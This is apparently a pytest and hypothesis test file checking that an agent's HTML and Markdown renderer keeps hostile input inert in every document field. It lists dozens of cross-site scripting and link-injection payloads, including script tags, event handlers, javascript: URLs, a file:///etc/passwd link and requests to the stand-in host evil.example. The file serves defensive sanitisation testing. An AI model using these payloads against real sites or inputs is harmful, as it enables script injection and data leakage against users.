"""Whatever a document says, its page shows it and does nothing."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings, strategies as st

from llmi_agent.contract.tool import Attachment, Provenance
from llmi_agent.document.model import Document, Missing, TextBlock
from llmi_agent.document.render import render_html, render_markdown
from llmi_agent.document.render.wording import line

if TYPE_CHECKING:
    from collections.abc import Callable

    from llmi_agent.store.artifacts import ArtifactStore

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onclick=alert(1) `",
    "<a href=javascript:alert(1)>x</a>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<video poster=https://evil.example/x.png><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>",
    "<!-- an open comment",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<br onclick=alert(1)>",
    "<sub onclick=alert(1)>x</sub>",
    "<x onclick=alert(1)>x",
    "</article></main></body></html><h1>Gone</h1>",
    "<plaintext>",
    "<table><td background=https://evil.example/x.png>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    '[x](<https://evil.example/" onclick="alert(1)>)',
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](https://evil.example/pixel.png)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }} {% raw %} {{ self }}",
    "javascript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/" onclick="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "\x00\x0b\x1f\ud800\ufffe",
]


def hostile(
    payload: str, figure: Callable[..., Any], document: Callable[..., Document]
) -> Document:
    """A document that says `payload` wherever it says anything."""
    provenance = Provenance(
        provider=payload,
        model=payload,
        source_url=payload,
        page_url=payload,
        title=payload,
        creator=payload,
        licence=payload,
        licence_url=payload,
        attribution=payload,
        code=payload,
    )
    anonymous = Provenance(payload, creator=payload, licence_url=payload)
    common = {"caption": payload, "tool": payload, "note": payload, "media_type": payload}
    return document(
        payload,
        figure(1, provenance=provenance, kind=payload, params={payload: [payload]}, **common),
        f"# {payload}\n\n- {payload}\n\n> {payload}",
        figure(2, provenance=anonymous, kind="search", params={"query": payload}, **common),
        figure(3, provenance=anonymous, digest=payload, params={"code": payload}, **common),
        Missing(slot=3, kind=payload, caption=payload, reason="crashed", message=payload),
        f"~~~\n{payload}",
        title=payload,
        prompt=payload,
        policy=payload,
        episode=payload,
        created=payload,
        attachments=(Attachment(payload, payload, payload, 1),),
        bindings={payload: payload},
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_field_stays_words(
    payload: str,
    figure: Callable[..., Any],
    document: Callable[..., Document],
    store: ArtifactStore,
    assert_inert: Callable[[str], Any],
) -> None:
    page = assert_inert(render_html(hostile(payload, figure, document), store))
    assert [image["alt"] for image in page.all("img")] == [line(payload)] * 2
    assert len(page.all("h1")) == 1
    assert len(page.all("figure")) == 3
    assert "About this document" in page.text()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_markdown_is_no_tag_no_picture_and_no_bad_link(
    payload: str,
    figure: Callable[..., Any],
    document: Callable[..., Document],
) -> None:
    from markdown_it import MarkdownIt

    from llmi_agent.document.render.safe_markdown import inert

    reader = MarkdownIt("commonmark", {"html": True}).enable(["table"])
    html = reader.render(inert(payload)).lower()
    assert "<img" not in html
    assert not any(
        f"<{tag}" in html for tag in ("script", "svg", "iframe", "style", "form", "base")
    )
    whole = reader.render(render_markdown(hostile(payload, figure, document))).lower()
    assert "<script" not in whole
    assert whole.count("<img") == 3
    assert whole.count('<img src="images/figure-') == 3
    assert 'href="javascript:' not in whole
    assert "onclick=alert(1)>" not in whole


ANY = st.text(st.characters(exclude_categories=()), max_size=60)
_PIECES = [
    *(
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "    ",
        "- ",
        "> ",
        "# ",
        "| ",
        "|--|\n",
        "\t",
        '"',
        "=",
    ),
    *(
        "![",
        "[",
        "]",
        "](",
        ")",
        "(",
        "<",
        ">",
        "!",
        "\\",
        "a",
        "*",
        "]: ",
        "&lt;",
        "<br>",
        "<sub>",
    ),
    *("<a href='", "<!--", "-->", "<script>", "</script>", "http://e.example", "javascript:x"),
]
PIECES = st.lists(st.sampled_from(_PIECES), max_size=30).map("".join)


@settings(max_examples=80, deadline=None)
@given(text=ANY | PIECES, other=ANY | PIECES)
def test_any_text_in_any_field_renders(
    text: str,
    other: str,
    figure: Callable[..., Any],
    document: Callable[..., Document],
    store: ArtifactStore,
    assert_inert: Callable[[str], Any],
) -> None:
    made = hostile(text, figure, document)
    made = made.model_copy(update={"blocks": (*made.blocks, TextBlock(markdown=other))})
    html = render_html(made, store)
    html.encode()
    assert_inert(html)
    assert "<script" not in html
    render_markdown(made).encode()


@settings(max_examples=300, deadline=None)
@given(text=PIECES)
def test_markdown_is_harmless_whatever_it_is_made_of(text: str) -> None:
    from markdown_it import MarkdownIt

    from llmi_agent.document.render.safe_markdown import closed, inert

    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    after = reader.render(closed(inert(text)) + "\n\nafter the block")
    assert "<img" not in after
    assert "<script" not in after
    assert "<a href='" not in after
    assert "<p>after the block</p>" in after
